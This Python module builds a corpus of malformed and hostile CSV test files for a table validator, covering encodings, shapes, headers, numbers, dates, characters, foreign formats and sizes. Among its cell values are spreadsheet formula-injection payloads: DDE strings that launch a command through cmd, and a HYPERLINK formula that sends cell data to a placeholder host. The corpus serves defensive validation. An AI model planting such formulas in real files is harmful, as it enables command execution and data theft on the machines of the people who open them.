"""The text files of the hostile corpus, and the plain table that every case departs from."""

import re
from collections.abc import Callable, Iterator
from hashlib import shake_256
from typing import NamedTuple

HEADER = [
    "commitment",
    "region",
    "report",
    "section",
    "theme",
    "target_value",
    "target_unit",
    "comparator",
    "deadline",
    "label_zh",
    "label_en",
    "start",
    "end",
    "evidence",
]
ROWS = [
    line.split("|")
    for line in (
        "east-1|east|east-2024|二|drills|1052|次|=|2024-12-31|演练|Hold drills|100|104|开展演练",
        "east-2|east|east-2024|三|training|45|人次|>=|2025-06-30|培训|Training|200|206|培训人员45",
        "east-3|east|east-2024|三|training|||||建立机制|Set up a mechanism|300|304|建立机制",
    )
]


class Case(NamedTuple):
    """One file, and what reading it must come to."""

    name: str
    file: str
    source: bytes | Callable[[], bytes]  # a call where making the bytes takes long
    outcome: str
    words: str = ""

    @property
    def data(self) -> bytes:
        """The bytes of the file."""
        return self.source if isinstance(self.source, bytes) else self.source()


def noise(size: int) -> bytes:
    """Bytes that mean nothing, the same each time."""
    return shake_256(b"noise").digest(size)


def cases() -> Iterator[Case]:
    """Every text file of the corpus."""
    yield from _encodings()
    yield from _shapes()
    yield from _headers()
    yield from _numbers_and_dates()
    yield from _characters()
    yield from _foreign()
    yield from _sizes()


def csv(header: list[str] = HEADER, rows: list[list[str]] = ROWS, end: str = "\n") -> str:
    """The plain table as CSV text."""
    lines = [",".join(_quoted(cell) for cell in line) for line in [header, *rows]]
    return end.join(lines) + end


def _quoted(cell: str) -> str:
    return '"' + cell.replace('"', '""') + '"' if re.search('[,"\n]', cell) else cell


def changed(row: int, column: str, cell: str) -> list[list[str]]:
    """The rows with one cell changed."""
    rows = [list(line) for line in ROWS]
    rows[row][HEADER.index(column)] = cell
    return rows


def _text(name: str, text: str, outcome: str, words: str = "") -> Case:
    return Case(name, f"{name}.csv", text.encode(), outcome, words)


def _encodings() -> Iterator[Case]:
    plain = csv()
    yield _text("plain", plain, "read")
    yield _text("byte_order_mark", "\ufeff" + plain, "read")
    yield _text("crlf", csv(end="\r\n"), "read")
    yield _text("cr", csv(end="\r"), "read")
    for encoding, words in (
        ("gb18030", "gb18030 reads as"),
        ("gbk", "gb18030 reads as"),
        ("utf-16", "UTF-16"),
        ("utf-16-le", "NUL"),
        ("utf-32", "UTF-16"),
    ):
        data = plain.encode(encoding)
        yield Case(f"in_{encoding}", f"in_{encoding}.csv", data, "refused", words)
    traditional = plain.translate(str.maketrans("开练训员机", "開練訓員機"))
    yield Case("in_big5", "in_big5.csv", traditional.encode("big5"), "refused", "not UTF-8")
    swapped = b"\xfe\xff" + plain.encode("utf-16-be")
    yield Case("in_utf16_be", "in_utf16_be.csv", swapped, "refused", "UTF-16")
    cut = plain.encode()[: -len("制\n".encode()) + 1]
    yield Case("cut_in_a_character", "cut_char.csv", cut, "refused", "not UTF-8")
    odd = plain.replace("Hold drills", "Hold dr\udcefills").encode("utf-8", "surrogatepass")
    yield Case("lone_surrogate", "surrogate.csv", odd, "refused", "not UTF-8")
    latin = plain.replace("Hold", "Hält").encode("utf-8").decode("latin-1")
    yield _text("mojibake", latin, "refused", "a control character")
    lost = csv(rows=changed(0, "label_zh", "开\ufffd演练"))
    yield _text("replacement_character", lost, "refused", "lost in a conversion")


def _shapes() -> Iterator[Case]:
    plain = csv()
    yield _text("empty", "", "refused", "an empty file")
    yield _text("blanks_only", " \n\n \n", "refused", "an empty file")
    yield _text("no_last_line_break", plain[:-1], "refused", "no line break at the end")
    yield _text("cut_in_the_last_line", plain[:-12], "refused", "no line break at the end")
    longer = csv(rows=[[*ROWS[0], "more"], *ROWS[1:]])
    yield _text("one_row_too_long", longer, "refused", "line 2: found 15 fields")
    every = csv(rows=[["x", *row] for row in ROWS])
    yield _text("every_row_too_long", every, "refused", "line 3: found 15 fields")
    shorter = csv(rows=[ROWS[0], ROWS[1][:-1], ROWS[2]])
    yield _text("one_row_too_short", shorter, "refused", "line 3: found 13 fields")
    yield _text("unclosed_quote", plain.replace("Hold", '"Hold'), "refused", "not CSV")
    stray = plain.replace("Hold drills", '"Hold" drills')
    yield _text("stray_quote", stray, "refused", "not CSV")
    yield _text("semicolons", plain.replace(",", ";"), "refused", "fields divided by ';'")
    yield _text("tabs", plain.replace(",", "\t"), "refused", "fields divided by '\\t'")
    yield _text("full_width_commas", plain.replace(",", "，"), "refused", "fields divided by")
    lines = plain.splitlines()
    gaps = "\n".join([lines[0], "", lines[1], "," * 13, *lines[2:], "", ""]) + "\n"
    yield _text("empty_lines", gaps, "read")
    note = plain + "注：数据为初步统计" + "," * 13 + "\n"
    yield _text("footnote", note, "repaired", "a footnote; left out")
    source = plain + "Source: yearbook" + "," * 13 + "\n"
    yield _text("source_line", source, "repaired", "a footnote; left out")
    for word in ("合计", "合 计", "Total", "小计："):
        total = plain + word + ",,,,,1097" + "," * 8 + "\n"
        yield _text(
            f"total_{ord(word[-1])}_{len(word)}", total, "refused", "a total among the rows"
        )
    doubled = csv(rows=[*ROWS, ROWS[0]])
    yield _text("doubled_key", doubled, "refused", "line 5, column commitment")


def _headers() -> Iterator[Case]:
    def renamed(old: str, new: str) -> str:
        return csv(header=[new if name == old else name for name in HEADER])

    yield _text("header_doubled", renamed("region", "report"), "refused", "a doubled header")
    yield _text("header_empty", renamed("section", ""), "refused", "values without a header")
    yield _text("header_in_chinese", renamed("target_value", "目标值"), "repaired", "target_value")
    wide = renamed("commitment", "Ｃommitment ")
    yield _text("header_full_width", wide, "repaired", "read as commitment")
    yield _text("header_spaced", renamed("label_zh", "Label\nZH"), "repaired", "read as label_zh")
    yield _text("header_hidden", renamed("theme", "the\u200bme"), "repaired", "read as theme")
    unit = renamed("target_value", "target_value（万元）")
    yield _text("header_with_unit", unit, "refused", "a unit in the header")
    yield _text("header_percent", renamed("target_value", "目标值%"), "refused", "a unit in")
    yield _text("header_misspelt", renamed("deadline", "dead_line"), "refused", "to deadline")
    both = renamed("deadline", "目标值")
    yield _text("header_alias_doubled", both, "refused", "a doubled header")
    less = csv(header=HEADER[:-1], rows=[row[:-1] for row in ROWS])
    yield _text("column_missing", less, "refused", "a missing column; add evidence")
    more = csv(header=[*HEADER, "zz"], rows=[[*row, "1"] for row in ROWS])
    yield _text("column_unknown", more, "refused", "not a column of this table")
    blank = csv(header=[*HEADER, ""], rows=[[*row, ""] for row in ROWS])
    yield _text("column_empty", blank, "read")
    title = "承诺一览表" + "," * 13 + "\n" + csv()
    yield _text("title_line", title, "refused", "a title above the header")


def _cell(name: str, column: str, text: str, outcome: str, words: str, row: int = 0) -> Case:
    return _text(name, csv(rows=changed(row, column, text)), outcome, words)


def _numbers_and_dates() -> Iterator[Case]:
    for name, text, words in (
        ("full_width", "１０５２", "read as 1052"),
        ("grouped", "1,052", "read as 1052"),
        ("grouped_full_width", "１，０５２", "read as 1052"),
    ):
        yield _cell(f"number_{name}", "target_value", text, "repaired", words)
    for name, text, words in (
        ("mis_grouped", "10,52", "not a plain number"),
        ("wan", "1.2万", "write 12000"),
        ("yi", "3亿元", "write 300000000"),
        ("percent", "6.7%", "write 6.7, and the sign as the unit"),
        ("more_than", "3580余", "write 3580, and >= as the comparator"),
        ("dash", "—", "leave the line out"),
        ("unpublished", "未公布", "leave the line out"),
        ("na", "N/A", "leave the line out"),
        ("chinese", "四十五", "write 45"),
        ("zero", "零", "write 0"),
        ("infinite", "inf", "not a plain number"),
        ("overflow", "1e400", "not a plain number"),
        ("scientific", "1.05E+03", "not a plain number"),
        ("too_long", "9223372036854775808", "over 15 digits"),
        ("nan", "NaN", "leave the line out"),
        ("arabic", "١٢٣", "not a plain number"),
    ):
        yield _cell(f"number_{name}", "target_value", text, "refused", words)
    for name, text in (
        ("slashes", "2024/12/31"),
        ("chinese", "2024年12月31日"),
        ("dots", "2024.12.31"),
    ):
        yield _cell(f"date_{name}", "deadline", text, "repaired", "read as 2024-12-31")
    for name, text, words in (
        ("day_first", "31/12/2024", "not a date"),
        ("serial", "45657", "write 2024-12-31"),
        ("year", "2024年", "2024-12-31"),
        ("no_such_day", "2024-02-30", "no day of the calendar"),
    ):
        yield _cell(f"date_{name}", "deadline", text, "refused", words)


def _characters() -> Iterator[Case]:
    for name, text in (
        ("nul", "a\0b"),
        ("bell", "a\x07b"),
        ("escape", "\x1b[31m"),
        ("del", "\x7f"),
    ):
        yield _cell(f"control_{name}", "section", text, "refused", "a control character")
    for name, text in (
        ("zero_width", "ea\u200bst"),
        ("bidi", "\u202eeast"),
        ("blanks", "\u3000east\xa0"),
        ("mark", "\ufeffeast"),
    ):
        yield _cell(f"invisible_{name}", "region", text, "repaired", "read as 'east'")
    for name, text in (
        ("dde", "=cmd|' /C calc'!A0"),
        ("hyperlink", '=HYPERLINK("http://x.example/?"&A1)'),
        ("at", "@SUM(A1)"),
        ("plus", "+cmd|' /C calc'!A0"),
        ("minus", "-2+3+cmd|' /C calc'!A0"),
    ):
        yield _cell(f"formula_{name}", "label_en", text, "refused", "a formula to a spreadsheet")
    yield _cell("error_value", "label_zh", "#REF!", "refused", "error value")
    yield _cell("narrow_column", "deadline", "########", "refused", "error value")
    yield _cell("escaped_control", "label_zh", "a_x0007_b", "refused", "a control character")
    yield _cell("long_cell", "section", "长" * 40_000, "refused", "over 32767 characters")
    yield _cell("huge_cell", "section", "长" * 140_000, "refused", "over 32767 characters")
    yield _cell("unknown_word", "comparator", "≥", "refused", "not one of")
    yield _cell("full_width_word", "comparator", "＝", "repaired", "read as =")


def _foreign() -> Iterator[Case]:
    for name, data, words in (
        ("html", b"<html><table><tr><td>1</td></tr></table></html>\n", "a web page"),
        ("zip", b"PK\x03\x04" + bytes(200), "an XLSX or zip file"),
        ("xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), "an old Excel file"),
        ("pdf", b"%PDF-1.7\n" + bytes(200), "a PDF file"),
        ("noise", noise(4_000), "not UTF-8"),
        ("json", b'{"commitment": "east-1", "region": "east"}\n', "not CSV"),
    ):
        yield Case(f"csv_that_is_{name}", f"is_{name}.csv", data, "refused", words)
    yield Case(
        "lock_file", "~$commitments.xlsx", b"\x05Anna" + bytes(160), "refused", "open in Excel"
    )


def _sizes() -> Iterator[Case]:
    wide = csv(header=[*HEADER, *(f"c{i}" for i in range(5_000))])
    yield _text("wide_csv", wide, "refused", "too large for a table")
    tall = csv() + (",".join(ROWS[0]) + "\n") * 120_000
    yield _text("tall_csv", tall, "refused", "too large for a table")
    heavy = csv() + ("x" * 1_000 + "\n") * 18_000
    yield _text("heavy_csv", heavy, "refused", "too large for a table")
